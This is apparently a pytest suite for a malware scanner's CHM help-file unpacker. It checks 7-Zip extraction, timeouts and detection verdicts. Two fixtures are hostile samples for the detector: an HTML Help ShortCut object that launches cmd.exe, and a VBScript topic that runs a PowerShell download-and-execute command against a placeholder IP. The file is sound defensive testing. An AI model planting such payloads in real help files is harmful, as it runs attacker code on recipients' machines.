"""CHM unpacker: help files built here (ITSF, uncompressed section) read through 7-Zip; topics analysed."""

from __future__ import annotations

import tempfile
import time
from pathlib import Path
from typing import Any

import pytest

from coinguard import subproc
from coinguard.findings import Finding, Item, VerdictKind
from coinguard.scan import ScanContext, scan_message
from coinguard.sniff import sniff
from coinguard.unpack import chm_archive
from coinguard.unpack.chm_archive import ChmArchive
from coinguard.unpack.common import sevenzip_program
from unpack.builders import chm_file

from helpers import make_context, make_message, need_corpus, read_corpus_sample

needs_7zip = pytest.mark.skipif(sevenzip_program() is None, reason="the 7-Zip program is not installed")

INDEX = (b"<html><head><title>Wallet help</title></head><body><h1>Getting started</h1><p>Open the wallet.</p>"
         b"</body></html>")
#: The HTML Help control's ShortCut command: hh.exe runs Item1's program when the topic opens.
SHORTCUT = (b'<html><body><OBJECT id=x classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>'
            b'<PARAM name="Command" value="ShortCut"><PARAM name="Button" value="Bitmap::shortcut">'
            b'<PARAM name="Item1" value=",cmd.exe,/c echo harmless-test">'
            b"</OBJECT><script>x.Click();</script></body></html>")
#: VBScript in a topic, run by the IE engine inside hh.exe (no prompt for a local CHM).
VBS_TOPIC = (b'<html><head><script language="VBScript">\r\nSet sh = CreateObject("WScript.Shell")\r\n'
             b'sh.Run "powershell -nop -c iex (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a\')"'
             b"\r\n</script></head><body>loading</body></html>")


def run(data: bytes) -> tuple[list[str], list[Item]]:
    item = Item(path="help.chm", name="help.chm", data=data, type=sniff(data))
    assert ChmArchive().applies_to(item)
    out = list(ChmArchive().handle(item, make_context()))
    return [o.code for o in out if isinstance(o, Finding)], [o for o in out if isinstance(o, Item)]


@needs_7zip
def test_chm_topics_become_items_and_the_copy_is_removed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    data = chm_file({"/index.htm": INDEX, "/html/run.htm": SHORTCUT, "/#SYSTEM": b"\x03\x00\x00\x00"})
    assert sniff(data) == "chm"
    codes, items = run(data)
    assert codes == []
    assert {(i.path, i.type) for i in items} == {
        ("help.chm/index.htm", "html"), ("help.chm/html/run.htm", "html"), ("help.chm/#SYSTEM", "binary")}
    assert next(i for i in items if i.name.endswith("run.htm")).data == SHORTCUT
    assert list(tmp_path.iterdir()) == []


@needs_7zip
def test_damaged_chm_is_a_parse_error() -> None:
    codes, items = run(b"ITSF\x03\x00\x00\x00" + b"\xff" * 200)
    assert codes == ["archive.parse_error"]
    assert items == []


@needs_7zip
@pytest.mark.parametrize(("topic", "conclusive"), [
    (SHORTCUT, "markup.hh_shortcut"),
    (VBS_TOPIC, "file.script_behavior"),
])
def test_chm_that_runs_something_is_malicious_without_any_crypto_theme(topic: bytes, conclusive: str) -> None:
    chm = chm_file({"/index.htm": INDEX, "/start.htm": topic})
    verdict = scan_message(make_message(attachments=[("manual.chm", chm)]), ScanContext())
    assert verdict.verdict is VerdictKind.MALICIOUS
    assert verdict.strengths()[conclusive] == "conclusive"
    assert verdict.strengths()["file.chm"] == "strong"
    assert any(f.code == conclusive and f.path.startswith("manual.chm/") for f in verdict.findings)


@needs_7zip
def test_plain_help_file_is_not_conclusive() -> None:
    chm = chm_file({"/index.htm": INDEX, "/topics/install.htm": b"<html><body><p>Step 1</p></body></html>"})
    verdict = scan_message(make_message(attachments=[("manual.chm", chm)]), ScanContext())
    assert verdict.verdict is not VerdictKind.MALICIOUS  # a help file alone is strong evidence, not proof
    assert "conclusive" not in verdict.strengths().values()
    assert {a.path for a in verdict.attachments} >= {"manual.chm/index.htm", "manual.chm/topics/install.htm"}


@needs_7zip
@pytest.mark.corpus
def test_corpus_chm_topics_are_read() -> None:
    need_corpus()
    data = read_corpus_sample("maldocs/inquest/helpfile_jpg.chm.zip")  # LZX-compressed, kept in memory
    codes, items = run(data)
    assert codes == []
    assert "help.chm/#SYSTEM" in {i.path for i in items}
    assert any(i.type == "lnk" and i.size > 0 for i in items)  # the shortcut it carries, decompressed


@needs_7zip
def test_many_topics_are_read_in_one_run_and_match(monkeypatch: pytest.MonkeyPatch) -> None:
    topics = {f"/topics/t{i:03}.htm": b"<html><body>topic %d %s</body></html>" % (i, b"x" * i) for i in range(80)}
    runs: list[list[str]] = []
    real_init = subproc.ToolProcess.__init__

    def counting_init(self: subproc.ToolProcess, argv: list[str], *args: Any, **kwargs: Any) -> None:
        runs.append(list(argv))
        real_init(self, argv, *args, **kwargs)

    monkeypatch.setattr(subproc.ToolProcess, "__init__", counting_init)
    codes, items = run(chm_file(topics))
    assert codes == []
    assert {"/" + i.name: i.data for i in items} == topics
    extractions = [argv for argv in runs if argv[1] == "x"]
    assert len(extractions) == 2  # all members at once, then the biggest alone to check the order


@needs_7zip
def test_untrusted_one_run_output_falls_back_to_member_reads(monkeypatch: pytest.MonkeyPatch) -> None:
    topics = {f"/t{i}.htm": b"<html>%d</html>" % i for i in range(5)}
    real = chm_archive.read_bounded
    monkeypatch.setattr(chm_archive, "read_bounded", lambda read, cap, name: real(read, cap, name)[:-1])
    codes, items = run(chm_file(topics))
    assert codes == []
    assert {"/" + i.name: i.data for i in items} == topics


def test_without_7zip_the_chm_is_unreadable_not_clean(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(chm_archive, "sevenzip_program", lambda: None)
    codes, items = run(chm_file({"/index.htm": INDEX}))
    assert codes == ["archive.unreadable"]
    assert items == []


def test_a_hanging_one_run_extraction_ends_unchecked_with_nothing_left_running(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A 7zz that lists two topics and then never extracts: the one-run read and the member reads are
    killed with their process group, what was skipped is named, and the verdict is never clean (a CHM is
    itself strong evidence, so with the time budget spent the score may already make it malicious)."""
    import os

    from coinguard.config import parse_config
    from coinguard.scan import Envelope

    folder = tmp_path / "fake"
    (folder / "bin").mkdir(parents=True)
    script = folder / "bin" / "7zz"
    script.write_text(f"""#!/bin/sh
echo $$ >> {folder}/pids
if [ "$1" = l ]; then
    printf 'Path = a.htm\\nFolder = -\\nSize = 5\\nPacked Size = 5\\n\\nPath = b.htm\\nFolder = -\\nSize = 5\\n\\n'
    exit 0
fi
sleep 300 &
echo $! >> {folder}/pids
sleep 300
""")
    script.chmod(0o755)
    monkeypatch.setenv("PATH", f"{folder / 'bin'}{os.pathsep}{os.environ['PATH']}")
    chm = chm_file({"/a.htm": b"<p>a</p>", "/b.htm": b"<p>b</p>"})
    cfg = parse_config("[scan]\ntimeout_s = 3\n")
    started = time.monotonic()
    v = scan_message(make_message(subject="help", attachments=[("help.chm", chm, "application/vnd.ms-htmlhelp")]),
                     ScanContext(config=cfg, envelope=Envelope(id="t")))
    assert time.monotonic() - started < 10, "the hanging tool held the scan past its budget"
    assert v.verdict in (VerdictKind.UNCHECKED, VerdictKind.MALICIOUS), v.codes
    assert "archive.unreadable" in v.codes or "scan.timeout" in v.codes, v.codes
    pids = [int(p) for p in (folder / "pids").read_text().split()]
    deadline = time.monotonic() + 5
    while any(os.path.exists(f"/proc/{p}") and "zombie" not in _state(p) for p in pids) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not [p for p in pids if os.path.exists(f"/proc/{p}") and "zombie" not in _state(p)], "a 7zz was left running"


def _state(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/status") as fh:
            return next((line for line in fh if line.startswith("State:")), "").lower()
    except OSError:
        return "zombie"
